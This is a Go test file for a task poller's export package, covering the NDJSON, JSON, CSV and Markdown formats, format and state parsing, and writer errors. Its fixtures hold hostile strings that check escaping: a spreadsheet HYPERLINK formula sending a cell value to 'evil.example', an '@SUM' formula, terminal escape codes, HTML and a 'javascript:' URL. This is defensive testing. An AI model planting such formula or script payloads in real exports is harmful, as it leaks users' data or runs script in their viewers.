package report

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/x/exp/golden"

	"polltop/poller"
	"polltop/poller/paste"
	"polltop/poller/queue"
)

// exported are tasks in every state, with texts that mean something to each
// format.
func exported(t *testing.T) ([]*poller.Task, ExportOptions) {
	t.Helper()
	changes := []func(*poller.Task){
		func(t *poller.Task) { t.Polls = 0 },
		func(t *poller.Task) {
			t.State, t.Queued, t.QueuePosition = poller.Queued, before(1500*time.Millisecond), 7
			t.Trouble = &queue.Fault{HTTP: 503, Message: "upstream | connect\nerror"}
		},
		func(t *poller.Task) { ran(t, poller.Succeeded); t.InferenceTime = 12.34 },
		func(t *poller.Task) {
			ran(t, poller.Failed)
			t.ErrorType, t.Error = queue.ErrorInvalid, "=HYPERLINK(\"https://evil.example/?\"&A1);+1\r\n\x1b[2J<img src=x> `a|b` \\ *bold* [x](y)\u202e 雨"
		},
		func(t *poller.Task) { ran(t, poller.Canceled); t.ErrorType, t.Error = "-1", "\t@SUM(1)" },
		func(t *poller.Task) { ran(t, poller.NotFound); t.Error = "Request not found" },
	}
	var tasks []*poller.Task
	for i, change := range changes {
		task := object(t, change)
		task.Seq = int32(i)
		task.Request.ID += strconv.Itoa(i)
		tasks = append(tasks, task)
	}
	results := map[int32]*queue.Result{2: {Outputs: []queue.Output{
		{Type: "video", URL: "https://cdn.example/a b|.mp4?x=1&y=2"}, {Type: "text", Content: "a"}, {Type: "image", ContentType: "image/png", Data: "data:image/png;base64,AAAA"}, {URL: "javascript:alert(1)"}, {Type: "`x`", URL: "http://cdn.example/>.png"},
	}}}
	return tasks, ExportOptions{
		Now: noon, Result: func(seq int32) *queue.Result { return results[seq] },
		Source: paste.Source{Bases: []*queue.Base{tasks[0].Request.Base}},
	}
}

// export returns what an export writes.
func export(t testing.TB, format Format, tasks []*poller.Task, o ExportOptions) string {
	t.Helper()
	var b strings.Builder
	if err := Export(&b, format, tasks, o); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// giveInputs gives the tasks payloads for their format: the first two tasks are attempts with
// the same.
func giveInputs(format Format, tasks []*poller.Task, o *ExportOptions) {
	if format != Payloads {
		return
	}
	for i, task := range tasks {
		task.Payload = int64(max(i, 1))
	}
	o.Input = func(number int64) ([]byte, bool) {
		return fmt.Appendf(nil, `{"prompt":"\u001b[2J %d \u202e","url":"https://a.test/?a&b"}`, number), number != 3
	}
}

// TestExport holds the exact text of every format.
func TestExport(t *testing.T) {
	for _, format := range Formats() {
		t.Run(string(format), func(t *testing.T) {
			tasks, o := exported(t)
			// Every task was tracked under the same base object.
			for _, task := range tasks {
				task.Request.Base = o.Source.Bases[0]
			}
			giveInputs(format, tasks, &o)
			golden.RequireEqual(t, export(t, format, tasks, o))
		})
	}
}

func TestExportOfNothing(t *testing.T) {
	want := map[Format]string{NDJSON: "", JSON: "[]\n", IDs: "", Requests: ""}
	for format, text := range want {
		if got := export(t, format, nil, ExportOptions{}); got != text {
			t.Errorf("%s: %q, want %q", format, got, text)
		}
	}
	for _, format := range []Format{CSV, Markdown} {
		if got := export(t, format, nil, ExportOptions{}); !strings.Contains(strings.ToLower(got), "request") {
			t.Errorf("%s without a header: %q", format, got)
		}
	}
}

// TestExportedJSONIsTheSame holds that both JSON formats hold the same objects,
// those of ObjectOf.
func TestExportedJSONIsTheSame(t *testing.T) {
	tasks, o := exported(t)
	var array, lines []TaskObject
	if err := json.Unmarshal([]byte(export(t, JSON, tasks, o)), &array); err != nil {
		t.Fatal(err)
	}
	decoder := json.NewDecoder(strings.NewReader(export(t, NDJSON, tasks, o)))
	for decoder.More() {
		var object TaskObject
		if err := decoder.Decode(&object); err != nil {
			t.Fatal(err)
		}
		lines = append(lines, object)
	}
	for i, task := range tasks {
		want := ObjectOf(task, EventTask, noon, o.Result(task.Seq))
		if !reflect.DeepEqual(array[i], want) || !reflect.DeepEqual(lines[i], want) {
			t.Errorf("task %d: %+v and %+v, want %+v", i, array[i], lines[i], want)
		}
	}
	if len(array) != len(tasks) || len(lines) != len(tasks) {
		t.Errorf("%d and %d objects for %d tasks", len(array), len(lines), len(tasks))
	}
}

// TestExportReturnsTheWritersError holds that a full disk is told, whenever it is full.
func TestExportReturnsTheWritersError(t *testing.T) {
	want := errors.New("no space left on device")
	tasks, o := exported(t)
	for _, format := range Formats() {
		giveInputs(format, tasks, &o)
		for _, count := range []int{1, 2000} { // within the buffer, and beyond it
			many := slices.Repeat(tasks, count)
			if err := Export(failing{want}, format, many, o); !errors.Is(err, want) {
				t.Errorf("%s of %d tasks: the error is %v", format, len(many), err)
			}
		}
	}
}

func TestParseFormat(t *testing.T) {
	for _, format := range Formats() {
		if got, err := ParseFormat(" " + strings.ToUpper(string(format))); got != format || err != nil {
			t.Errorf("%s: %s, %v", format, got, err)
		}
	}
	_, err := ParseFormat("xml")
	for _, part := range []string{`"xml"`, "ndjson", "json", "csv", "ids", "md"} {
		if err == nil || !strings.Contains(err.Error(), part) {
			t.Errorf("the error does not name %s: %v", part, err)
		}
	}
	if err := Export(io.Discard, "xml", nil, ExportOptions{}); err == nil {
		t.Error("an unknown format is exported")
	}
}

func TestFormatOf(t *testing.T) {
	for path, want := range map[string]Format{
		"a.ndjson": NDJSON, "a.jsonl": NDJSON, "a/b.JSON": JSON, "a.csv": CSV, "a.md": Markdown, "a.txt": Requests, "a.requests": Requests, "a.ids": IDs,
	} {
		if got, ok := FormatOf(path); got != want || !ok {
			t.Errorf("%s: %s, %v", path, got, ok)
		}
	}
	for _, path := range []string{"", "csv", "a.xlsx", "a.csv/b"} {
		if got, ok := FormatOf(path); ok {
			t.Errorf("%q: %s", path, got)
		}
	}
}

func TestParseStates(t *testing.T) {
	tests := map[string][]poller.State{
		"failed":            {poller.Failed},
		"failed,canceled":   {poller.Failed, poller.Canceled},
		" Done , not found": {poller.Succeeded, poller.NotFound},
		"succeeded,unknown": {poller.Succeeded, poller.NotFound, poller.Unread},
		"live":              {poller.New, poller.Queued, poller.Running, poller.Reading},
		"ended,new":         {poller.New, poller.Succeeded, poller.Failed, poller.Canceled, poller.Expired, poller.NotFound, poller.Unread, poller.Retried},
	}
	for text, want := range tests {
		got, err := ParseStates(text)
		if err != nil {
			t.Errorf("%q: %v", text, err)
		}
		for state := range poller.StateCount {
			if got[state] != slices.Contains(want, state) {
				t.Errorf("%q: %v is %v", text, state, got[state])
			}
		}
	}
	for _, text := range []string{"", "failed,", "broken"} {
		if _, err := ParseStates(text); err == nil || !strings.Contains(err.Error(), "not-found") {
			t.Errorf("%q: the error is %v", text, err)
		}
	}
	for state := range poller.StateCount {
		if got, err := ParseStates(state.String()); err != nil || !got[state] {
			t.Errorf("the dashboard's word %q is not read: %v", state, err)
		}
	}
}

// BenchmarkExport100k exports a hundred thousand tasks.
func BenchmarkExport100k(b *testing.B) {
	base, err := queue.ParseBase(queue.DefaultBaseURL)
	if err != nil {
		b.Fatal(err)
	}
	tasks := make([]*poller.Task, 100_000)
	for i := range tasks {
		tasks[i] = task(poller.Failed, "mmsu_01hxyz8k3vq2m4n6p8r0"+strconv.Itoa(100_000+i), queue.ErrorBlocked, "output was blocked by safety policy")
		tasks[i].Request.Endpoint, tasks[i].Request.Base = "wan26_i2v", base
	}
	for _, format := range Formats() {
		b.Run(string(format), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				var out bytes.Buffer
				if err := Export(&out, format, tasks, ExportOptions{Now: noon, Source: paste.Source{Bases: []*queue.Base{base}}}); err != nil {
					b.Fatal(err)
				}
				b.SetBytes(int64(out.Len()))
			}
		})
	}
}
